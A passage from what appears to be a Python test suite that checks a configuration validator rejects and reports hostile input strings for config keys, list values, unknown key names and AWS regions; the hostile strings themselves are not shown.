                if key.name not in ("owner", "costCentre", "crlUrls") and not _STRICT.fullmatch(text):
                    failures.append(f"{raw_value[:40]!r}: accepted {text[:40]!r}")
                if key.name == "crlUrls" and re.search(r"\s", text):
                    failures.append(f"{raw_value[:40]!r}: accepted blank in a URL")
            for domain in (d for g in cfg.egress_groups.values() for d in g.extra_domains):
                assert config.domain_problem(domain) is None
    assert not failures, "\n".join(failures)


def test_hostile_lists_report_every_bad_item():
    for key in (k for k in KEYS if k.type == "array" and k.items == "string"):
        issues = validate({key.name: json.dumps(HOSTILE)}, "dev", REGION)
        assert issues and {i.key for i in issues} == {key.name}


def test_hostile_unknown_key_names_are_reported_not_raised():
    for s in HOSTILE[:30]:
        if s in KEYS_BY_NAME:
            continue
        issues = validate({s: "x"}, "dev", REGION)
        assert [i.key for i in issues] == [f"{PROJECT}:{s}"]


def test_hostile_region_never_crashes():
    for s in HOSTILE:
        issues = validate({"availabilityZones": j(["us-east-1a", "us-east-1b"])}, "dev", s)
        assert "aws:region" in {i.key for i in issues}
